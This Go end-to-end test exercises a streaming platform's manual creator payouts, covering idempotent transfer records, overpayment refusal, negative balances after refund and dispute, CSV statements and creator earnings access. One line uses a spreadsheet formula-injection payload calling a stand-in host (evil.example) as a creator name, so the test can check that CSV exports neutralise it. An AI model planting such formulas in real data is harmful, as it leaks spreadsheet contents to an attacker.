package e2e

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/livegate/livegate/internal/csvout"
	"github.com/livegate/livegate/internal/testenv"
)

type balanceJSON struct {
	Balance struct {
		CreatorID   string `json:"creator_id"`
		CreatorName string `json:"creator_name"`
		Currency    string
		Earned      int64
		Paid        int64
		Owed        int64
		Negative    bool
		Sales       int
	}
	Display struct{ Owed string }
}

func (n *testNode) balances(creator string) []balanceJSON {
	n.t.Helper()
	var out struct{ Balances []balanceJSON }
	if st := n.call("GET", "/v1/admin/payouts/manual", nil, &out); st != 200 {
		n.t.Fatalf("manual payout statement: %d", st)
	}
	var mine []balanceJSON
	for _, b := range out.Balances {
		if b.Balance.CreatorID == creator {
			mine = append(mine, b)
		}
	}
	return mine
}

// getCSV fetches one of the node's CSV exports as the operator.
func (n *testNode) getCSV(path string) [][]string {
	n.t.Helper()
	req, _ := http.NewRequest("GET", n.URL()+path, nil)
	req.Header.Set("Authorization", "Bearer "+testAPIKey)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		n.t.Fatal(err)
	}
	defer resp.Body.Close()
	rows, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil || resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		n.t.Fatalf("GET %s: %d %v", path, resp.StatusCode, err)
	}
	return rows
}

// A manually paid creator's balance settles: the operator records each transfer (once
// per reference), what is owed goes down by it, a payout above the balance is refused,
// and a refund plus a lost dispute of one charge after the payout takes the charge back
// once and shows the creator owing the platform, flagged in the statement and the CSV.
// The creator sees what was paid and when. A creator whose name is a spreadsheet
// formula is text in every CSV the node writes.
func TestManualPayoutsSettle(t *testing.T) {
	n := startMoneyNode(t, nil)
	n.launchCountries()
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"x")`
	var c struct{ ID string }
	if st := n.call("POST", "/v1/creators", map[string]any{"name": evil, "country": "MA"}, &c); st != 201 {
		t.Fatalf("create creator: %d", st)
	}
	var s streamInfo
	n.call("POST", "/v1/streams", map[string]any{"creator_id": c.ID, "title": "Gnawa night", "access_mode": "ticket"}, &s)
	n.call("PUT", "/v1/streams/"+s.ID+"/prices", map[string]any{"prices": map[string]int64{"MAD": 4900}}, nil)
	amina, omar := n.buyer("viewer-amina", testenv.IPMorocco), n.buyer("viewer-omar", testenv.IPMorocco)
	amina.buyTicket(s.ID)
	omar.buyTicket(s.ID)

	owed := func() balanceJSON {
		t.Helper()
		b := n.balances(c.ID)
		if len(b) != 1 {
			t.Fatalf("statement rows of the creator: %+v", b)
		}
		return b[0]
	}
	if b := owed(); b.Balance.Earned != 8330 || b.Balance.Owed != 8330 || b.Balance.Sales != 2 || b.Balance.CreatorName != evil {
		t.Fatalf("after two MAD 49.00 sales at 15%%: %+v, want MAD 83.30 owed", b)
	}
	record := func(body map[string]any) rawResponse {
		return n.raw("POST", "/v1/admin/payouts", "application/json", mustJSON(body), n.operator())
	}
	first := map[string]any{"creator_id": c.ID, "currency": "MAD", "amount": 5000, "reference": "TRX-2026-11-001"}
	if r := record(first); r.status != 201 {
		t.Fatalf("record a payout: %d %s", r.status, r.body)
	}
	if r := record(first); r.status != 200 { // a retry: recorded once
		t.Fatalf("the same payout again: %d %s", r.status, r.body)
	}
	if b := owed(); b.Balance.Paid != 5000 || b.Balance.Owed != 3330 || b.Display.Owed != "MAD 33.30" {
		t.Fatalf("after a MAD 50.00 payout: %+v", b)
	}
	expectProblem(t, "a payout above what is owed", record(map[string]any{"creator_id": c.ID, "currency": "MAD", "amount": 4000, "reference": "TRX-2"}),
		409, "payout-exceeds-balance")
	expectProblem(t, "the same reference for another amount", record(map[string]any{"creator_id": c.ID, "currency": "MAD", "amount": 100,
		"reference": "TRX-2026-11-001"}), 409, "payout-reference-taken")
	expectProblem(t, "a payout of nothing", record(map[string]any{"creator_id": c.ID, "currency": "MAD", "amount": 0, "reference": "X"}), 422, "invalid-field")
	expectProblem(t, "a payout without its reference", record(map[string]any{"creator_id": c.ID, "currency": "MAD", "amount": 10}), 422, "invalid-field")
	expectProblem(t, "a payout to nobody", record(map[string]any{"creator_id": "cr_nobody", "currency": "MAD", "amount": 10, "reference": "X"}), 404, "creator-not-found")
	var za struct{ ID string }
	n.call("POST", "/v1/creators", map[string]any{"name": "Thandi", "country": "ZA"}, &za)
	expectProblem(t, "a payout to a creator Stripe pays", record(map[string]any{"creator_id": za.ID, "currency": "ZAR", "amount": 10, "reference": "X"}),
		409, "connect-payouts")
	paidAt := time.Now().Add(-time.Hour).UTC().Truncate(time.Second)
	if r := record(map[string]any{"creator_id": c.ID, "currency": "MAD", "amount": 3330, "reference": "TRX-2026-11-002", "paid_at": paidAt}); r.status != 201 {
		t.Fatalf("the rest: %d %s", r.status, r.body)
	}
	if b := owed(); b.Balance.Owed != 0 || b.Balance.Negative {
		t.Fatalf("after paying it all: %+v", b)
	}

	// After the payout, Amina's charge is refunded and then lost in a dispute: taken back
	// once, MAD 41.65 of the creator's share, which the creator now owes.
	n.deliver("evt_refund_amina", "charge.refunded", refundedCharge("pi_"+amina.id, 4900, true))
	n.deliver("evt_dispute_amina", "charge.dispute.closed", map[string]any{"id": "dp_amina", "object": "dispute", "status": "lost",
		"amount": 4900, "currency": "mad", "payment_intent": "pi_" + amina.id})
	if b := owed(); b.Balance.Earned != 4165 || b.Balance.Owed != -4165 || !b.Balance.Negative || b.Display.Owed != "MAD -41.65" {
		t.Fatalf("after a refund and a lost dispute of one charge: %+v, want MAD -41.65 owed, flagged", b)
	}
	rows := n.getCSV("/v1/admin/payouts/manual.csv")
	var mine []string
	for _, r := range rows[1:] {
		if r[0] == c.ID {
			mine = r
		}
	}
	head := strings.Join(rows[0], ",")
	if head != "creator_id,creator_name,country,currency,period,sales,tips,gross_minor,refunds_minor,fee_minor,net_minor,earned_minor,paid_minor,owed_minor,owed,paid_since_minor,last_paid_at,last_reference,flag" ||
		mine == nil || mine[1] != "'"+evil || mine[13] != "-4165" || mine[14] != "MAD -41.65" || mine[17] != "TRX-2026-11-001" || !strings.HasPrefix(mine[18], "negative") {
		t.Fatalf("the statement CSV: %q\n%q", rows[0], mine)
	}
	// Every CSV the node writes: no cell a spreadsheet would run.
	for _, path := range []string{"/v1/admin/payouts/manual.csv", "/v1/admin/payouts/manual.csv?period=" + time.Now().UTC().Format("2006-01"),
		"/v1/admin/reports/growth.csv"} {
		for _, r := range n.getCSV(path) {
			for _, cell := range r {
				if csvout.Cell(cell) != cell && !strings.HasPrefix(cell, "'") {
					t.Errorf("%s: cell %q would be a formula", path, cell)
				}
			}
		}
	}
	expectProblem(t, "a statement for a month that is not one", n.raw("GET", "/v1/admin/payouts/manual.csv?period=2026-13", "", "", n.operator()), 422, "invalid-field")

	// The creator sees the payouts, newest first, and what is owed.
	var earned struct {
		Owed    []struct{ Owed, Paid int64 }
		Payouts []struct {
			Reference string
			Display   string
			PaidAt    time.Time `json:"paid_at"`
		}
	}
	tok := n.creatorToken(c.ID)
	r := n.raw("GET", "/v1/creators/"+c.ID+"/earnings", "", "", map[string]string{"Authorization": "Bearer " + tok})
	if r.status != 200 || json.Unmarshal([]byte(r.body), &earned) != nil || len(earned.Payouts) != 2 || earned.Payouts[0].Reference != "TRX-2026-11-001" ||
		earned.Payouts[1].Display != "MAD 33.30" || !earned.Payouts[1].PaidAt.Equal(paidAt) || len(earned.Owed) != 1 || earned.Owed[0].Owed != -4165 {
		t.Fatalf("the creator's earnings: %d %s", r.status, r.body)
	}
	if r := n.raw("GET", "/v1/creators/"+c.ID+"/payouts", "", "", map[string]string{"Authorization": "Bearer " + tok}); r.status != 200 || !strings.Contains(r.body, "TRX-2026-11-002") {
		t.Fatalf("the creator's payouts: %d %s", r.status, r.body)
	}
	if r := n.raw("GET", "/v1/creators/"+za.ID+"/payouts", "", "", map[string]string{"Authorization": "Bearer " + tok}); r.status != 403 {
		t.Errorf("another creator's payouts with this creator's token: %d", r.status)
	}
}

// creatorToken is a token that manages creator.
func (n *testNode) creatorToken(creator string) string {
	return n.platformToken("user-"+creator, "creator", creator)
}
